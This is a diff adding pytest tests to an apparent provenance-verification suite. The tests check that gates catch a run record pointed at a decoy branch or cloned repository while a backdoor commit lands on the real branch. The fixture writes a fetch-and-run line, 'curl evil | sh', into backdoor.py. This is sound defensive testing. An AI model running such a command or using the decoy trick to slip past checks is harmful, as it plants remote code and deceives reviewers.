@@ -309,6 +309,32 @@ def test_replace_refs_cannot_hide_arbitrary_content_on_the_branch(good_run: Buil
     assert_caught(good_run.run_dir, "R2", "EX-D", "R3")
 
 
+@pytest.mark.parametrize("decoy", ["branch", "repo"])
+def test_gates_pointed_at_a_decoy_branch_or_repository_are_caught(good_run: Built,
+                                                                  decoy: str) -> None:
+    """HOLE. The real target (request.json: repo, branch main; patches_applied: main)
+    gets a backdoor commit on top; execution_result.json names a decoy that still holds
+    the honest history: another branch of the same repository, or a copy of the whole
+    repository. Every git-backed gate follows execution_result.json; nothing ties its
+    repo/branch to the request, the tape's worktree_created/patches_applied or the
+    worktree's git_common_dir."""
+    repo = good_run.repo
+    result_path = good_run.run_dir / "execution_result.json"
+    if decoy == "branch":
+        git(repo, "branch", "honest", "main")
+        edit_json(result_path, lambda r: r.update(branch="honest"))
+    else:
+        shadow = good_run.root / "shadow-repo"
+        git(repo, "clone", "-q", "--no-local", str(repo), str(shadow))
+        git(shadow, "update-ref", "refs/heads/main", git(repo, "rev-parse", "main"))
+        edit_json(result_path, lambda r: r.update(repo=str(shadow)))
+    (repo / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
+    git(repo, "add", "backdoor.py")
+    git(repo, "commit", "-q", "-m", "s7: generate a file")
+    reseal(good_run.run_dir)
+    assert_caught(good_run.run_dir, "R2", "EX-D", "EX-H", "EX-C")
+
+
 # ------------------------------------------------------------------ what the steps did
 
 
@@ -455,6 +481,8 @@ def test_execution_result_claiming_bwrap_for_an_unsandboxed_step_is_caught(
     """HOLE. s7's manifest says backend `none` (best-effort, allowed), but
     execution_result.json (whose `sandbox` is copied into the signed predicate) still
     claims `bwrap`. EX-H does not recount `sandbox.backends` from the manifests."""
+    if read_json(good_run.run_dir / "steps" / "s7.json")["sandbox"]["backend"] != "bwrap":
+        pytest.skip("bwrap does not work here: the good run is unsandboxed already")
     _unsandbox_s7(good_run, backend="none", wrapper_argv=[])
     assert read_json(good_run.run_dir / "execution_result.json")["sandbox"]["backends"] == \
         ["bwrap"]
